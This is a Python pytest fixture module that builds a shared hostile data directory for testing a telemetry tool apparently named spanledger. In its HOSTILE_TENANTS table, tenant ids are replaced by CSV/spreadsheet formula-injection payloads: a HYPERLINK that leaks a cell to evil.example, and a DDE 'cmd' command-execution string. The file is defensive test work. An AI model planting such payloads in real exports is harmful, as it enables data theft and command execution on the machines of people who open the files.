"""A data directory as a harsh user makes one, built once per test run by the real command line.

- Its path holds a quote, braces, brackets, a star, a dollar, a percent escape, spaces and a non-ASCII
  letter.
- Three tenants' ids are replaced in the telemetry (before landing) by spreadsheet formulas and
  control characters, the way a hostile client sets `tenant.id`.
- Content capture is on (kept 400 days), so `restricted/content/` holds prompts.

Tests never change it: they read it, or work on `private_copy`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from tests.built_once import built_once

ODD_NAME = "it's {odd} [1] *$dir %41 é"
START = date(2026, 3, 1)
MONTH = "2026-03"
HOSTILE_TENANTS = {  # generated tenant id → what the hostile client sends instead
    "globex": '=HYPERLINK("https://evil.example/?leak="&A1,"invoice")\x00',
    "initech": "\t-2+3+cmd|' /C calc'!A0",
    "hooli": "@SUM(1+1)\r\x07\x1b[31m",
}
SPANLEDGER = str(Path(sys.executable).parent / "spanledger")


def spanledger(data_dir: Path, *args: str, env: dict[str, str] | None = None, **kwargs):
    """The installed console script, as a user runs it (cwd: a folder that is not the checkout)."""
    return subprocess.run(
        [SPANLEDGER, "--data-dir", str(data_dir), *args],
        capture_output=True,
        text=True,
        timeout=kwargs.pop("timeout", 300),
        env={**os.environ, "COLUMNS": "200", **(env or {})},
        cwd=kwargs.pop("cwd", data_dir.parent),
        check=False,
        **kwargs,
    )


def _make_hostile(inbox: Path) -> None:
    for path in inbox.glob("*.jsonl"):
        text = path.read_text(encoding="utf-8")
        for tenant, hostile in HOSTILE_TENANTS.items():
            text = text.replace(
                f'"key":"tenant.id","value":{{"stringValue":"{tenant}"}}',
                f'"key":"tenant.id","value":{{"stringValue":{json.dumps(hostile)}}}',
            )
        path.write_text(text, encoding="utf-8")


def _build(base: Path) -> None:
    base.mkdir(parents=True)
    data_dir = base / ODD_NAME
    inbox = base / "inbox"
    generated = spanledger(
        data_dir,
        *("generate", "--out", str(inbox), "--days", "2", "--start-date", START.isoformat()),
        *("--tenants", "5", "--requests-per-day", "40", "--seed", "5"),
    )
    assert generated.returncode == 0, generated.stderr
    _make_hostile(inbox)
    content_on = {"SPANLEDGER_STORE_CONTENT": "1", "SPANLEDGER_CONTENT_TTL_DAYS": "400"}
    for step, env in ((("land", "--settle-seconds", "0", str(inbox)), content_on), (("build",), None)):
        proc = spanledger(data_dir, *step, env=env)
        assert proc.returncode == 0, f"spanledger {step[0]} in {data_dir}: {proc.stdout[-2000:]}{proc.stderr}"


def hostile_golden(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data directory (shared by every test and xdist worker of the run; never modify it)."""
    return built_once(tmp_path_factory, "hostile-golden", _build) / ODD_NAME
